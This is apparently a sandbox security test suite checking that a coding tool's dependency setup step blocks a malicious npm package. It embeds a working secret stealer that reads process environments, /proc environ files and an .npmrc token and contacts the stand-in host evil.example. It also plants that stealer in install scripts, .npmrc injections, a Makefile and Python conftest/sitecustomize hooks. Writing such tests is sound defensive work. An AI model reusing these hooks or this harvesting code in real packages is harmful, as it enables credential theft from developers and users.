import { chmod, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { grantNetwork } from "../../src/core/config/network.ts";
import { planSetup } from "../../src/change/setup-commands.ts";
import { npmRegistry } from "../doubles/registries/npm.ts";
import { type Hosts, serveHosts } from "../doubles/registries/serve.ts";
import { type Bench, noSandbox, openBench } from "../workspace/sandbox-rig.ts";

const canary = "CANARY-64-not-a-secret";

/** Looks for what is planted around the job, sends what it finds away, and leaves a mark that it ran. */
const thief = (mark: string): string =>
  [
    'const fs = require("node:fs");',
    `fs.appendFileSync("/codex/marks.txt", ${JSON.stringify(`${mark}\n`)});`,
    'const read = (path) => { try { return fs.readFileSync(path, "utf8"); } catch { return ""; } };',
    'const pids = fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name));',
    'const loot = [JSON.stringify(process.env), ...pids.map((pid) => read("/proc/" + pid + "/environ")), read(read("/codex/planted-at"))].join();',
    'fs.appendFileSync("/codex/loot.txt", loot);',
    'require("node:http").get({ host: "127.0.0.1", port: 3128, path: "http://evil.example/" + (loot.includes("CANARY") ? "CANARY" : "nothing") }, () => {}).on("error", () => {});',
  ].join("\n");

const evil = (files: Readonly<Record<string, string>> = {}) =>
  npmRegistry(
    [
      {
        name: "evil",
        files: { "index.js": "export const one = 1;\n", "steal.cjs": thief("postinstall"), ...files },
        scripts: { preinstall: "node steal.cjs", install: "node steal.cjs", postinstall: "node steal.cjs" },
      },
    ],
    { type: "module", scripts: { preinstall: "node steal.cjs", prepare: "node steal.cjs", test: "node steal.cjs" } },
  );

interface Scene extends AsyncDisposable {
  readonly hosts: Hosts;
  readonly bench: Bench;
}

/** A machine with a secret in its environment and its home, and a project that is after it. */
async function scene(npm: ReturnType<typeof evil>, files: Readonly<Record<string, string>> = {}): Promise<Scene> {
  await using stack = new AsyncDisposableStack();
  vi.stubEnv("T64_CANARY", canary);
  stack.defer(() => void vi.unstubAllEnvs());
  const home = await mkdtemp(join(tmpdir(), "t64-"));
  stack.defer(() => rm(home, { recursive: true, force: true }));
  // Anybody on this machine may read it: what keeps it from the programs inside is that it is not there.
  await chmod(home, 0o755);
  await writeFile(join(home, ".npmrc"), `//registry.npmjs.org/:_authToken=${canary}\n`);
  const hosts = stack.use(await serveHosts({ "registry.npmjs.org": npm.site, "evil.example": { "/": "thanks" } }));
  const env = { PATH: process.env["PATH"], HOME: home, NPM_TOKEN: canary, SECRET: canary };
  const tree = { ...npm.project, "steal.cjs": thief("the project"), "planted-at": join(home, ".npmrc"), ...files };
  const bench = stack.use(await openBench(tree, env, { outside: hosts.outside }));
  const kept = stack.move();
  return { hosts, bench, [Symbol.asyncDispose]: () => kept.disposeAsync() };
}

/** As `/codex fix` does it. */
async function setUp({ bench }: Scene, scripts: boolean) {
  const rules = { commands: null, scripts, registries: [] };
  const plan = planSetup([...bench.workspace.files.keys()], rules, grantNetwork("setup-only", undefined));
  const [step] = plan.steps;
  return bench.sh(`${step?.command ?? ""}; status=$?; cat marks.txt; cat loot.txt; exit $status`, {
    network: plan.hosts,
    seconds: 60,
  });
}

function onlyTheRegistry({ hosts }: Scene): void {
  expect(hosts.requests.filter((request) => !request.startsWith("GET registry.npmjs.org/"))).toEqual([]);
}

describe.skipIf(noSandbox !== null)("T64: a malicious dependency", () => {
  it("is installed without its scripts being run, the project's own neither", async () => {
    await using at = await scene(evil());
    const { code, output } = await setUp(at, false);
    expect(code, output.text).toBe(0);
    expect(output.text).not.toMatch(/^(?:postinstall|the project)$/m);
    expect(at.hosts.requests).toEqual(["GET registry.npmjs.org/evil/-/evil-1.0.0.tgz"]);
  });

  it("whose scripts policy lets run finds nothing, and reaches no host but the registry", async () => {
    await using at = await scene(evil());
    const { code, output, refused } = await setUp(at, true);
    expect(code, output.text).toBe(0);
    expect(output.text).toMatch(/^postinstall$/m);
    expect(output.text).not.toContain("CANARY");
    expect(refused).toEqual(["evil.example"]);
    onlyTheRegistry(at);
  });

  it.each([
    ["scripts that are wanted all the same", "ignore-scripts=false\n"],
    ["another shell for scripts", "script-shell=./shell.sh\n"],
    ["options for every Node", "node-options=--require /codex/steal.cjs\n"],
  ])("is not helped by an .npmrc with %s", async (_, text) => {
    const npm = evil();
    await using at = await scene(npm, {
      ".npmrc": `${npm.project[".npmrc"] ?? ""}${text}`,
      "shell.sh": "#!/bin/sh\nexec node /codex/steal.cjs\n",
    });
    const { output } = await setUp(at, false);
    expect(output.text).not.toMatch(/^(?:postinstall|the project)$/m);
    expect(output.text).not.toContain("CANARY");
    onlyTheRegistry(at);
  });

  it("is not fetched from a registry that the project's .npmrc names", async () => {
    await using at = await scene(evil(), { ".npmrc": "registry=http://evil.example/\n" });
    const { code, refused } = await setUp(at, false);
    expect(code).not.toBe(0);
    expect(refused).toEqual(["evil.example"]);
    expect(at.hosts.requests).toEqual([]);
  });

  it("in a project whose tests, Makefile and conftest.py are after it too finds nothing when they run, and no network", async () => {
    const python = "import os, subprocess\nsubprocess.run(['node', '/codex/steal.cjs'])\n";
    await using at = await scene(evil(), {
      Makefile: "test:\n\tnode steal.cjs\n",
      "conftest.py": python,
      "test_a.py": "def test_a(): pass\n",
      "sitecustomize.py": python,
    });
    const line =
      "npm test --silent; make test; PYTHONPATH=. python3 -c 'print()'; python3 -m pytest -q; cat marks.txt loot.txt";
    const { output } = await at.bench.sh(line, { seconds: 60 });
    expect(output.text).toMatch(/^the project$/m);
    expect(output.text).not.toContain("CANARY");
    expect(at.hosts.requests).toEqual([]);
  });
});
